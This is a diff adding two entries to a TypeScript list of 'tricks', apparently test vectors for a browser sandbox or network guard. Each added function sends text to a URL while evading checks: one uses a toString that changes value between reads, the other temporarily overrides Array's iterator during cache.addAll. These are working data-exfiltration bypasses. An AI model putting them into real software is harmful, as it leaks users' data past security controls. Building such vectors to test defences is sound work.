@@ -164,6 +164,34 @@ export const TRICKS: readonly Vector[] = [
     },
   },
   {
+    name: "attribute-second-name",
+    run: (text, url) => {
+      let reads = 0;
+      const name = { toString: () => (reads++ === 0 ? "title" : "src") } as unknown as string;
+      document.createElement("img").setAttribute(name, `${url}?q=${encodeURIComponent(text)}`);
+    },
+  },
+  {
+    name: "cache-other-list",
+    run: async (text, url) => {
+      const cache = await caches.open("x");
+      const { prototype } = Array;
+      const values = Reflect.get(prototype, Symbol.iterator);
+      const list = [url];
+      Object.defineProperty(list, Symbol.iterator, { value: values });
+      Object.defineProperty(prototype, Symbol.iterator, {
+        configurable: true,
+        writable: true,
+        *value() {
+          yield `${url}?q=${encodeURIComponent(text)}`;
+        },
+      });
+      const added = cache.addAll(list);
+      Object.defineProperty(prototype, Symbol.iterator, { value: values });
+      await added;
+    },
+  },
+  {
     name: "socket-second-address",
     run: (text, url) => {
       let reads = 0;
